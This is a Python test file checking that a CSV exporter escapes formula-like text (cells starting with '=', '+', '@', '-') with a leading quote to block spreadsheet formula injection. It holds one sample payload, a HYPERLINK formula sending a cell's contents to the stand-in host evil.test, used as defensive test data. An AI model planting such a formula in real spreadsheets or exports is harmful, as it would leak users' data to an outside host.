"""CSV export: text a spreadsheet would run as a formula is written as text (a leading ')."""

from __future__ import annotations

import csv

from tests.export.conftest import TEXT_A, _document, _event
from warta.export import export
from warta.store import Store

HYPERLINK = '=HYPERLINK("https://evil.test/?"&A1, "klik")'


def test_formula_like_text_gets_a_leading_quote_and_numbers_stay_numbers(tmp_path):
    document = _document(TEXT_A, "https://x.test/1", "inbox/a.txt", [
        _event("041", "04", ("RUSGOV", "+Putin"), ("USAGOV", "@Biden"), "-Percakapan telepon", 26, goldstein=-4.0),
    ])  # fmt: skip
    document.article.title = HYPERLINK
    with Store(tmp_path / "w.duckdb") as store:
        store.write_batch([document])
        assert export(store, "csv", tmp_path / "events.csv") == 1
    [row] = list(csv.DictReader((tmp_path / "events.csv").open(encoding="utf-8")))
    assert row["article_title"] == "'" + HYPERLINK
    assert (row["source_text"], row["target_text"], row["evidence"]) == ("'+Putin", "'@Biden", "'-Percakapan telepon")
    assert (row["goldstein"], row["code"], row["trigger"]) == ("-4.0", "041", "percakapan telepon")
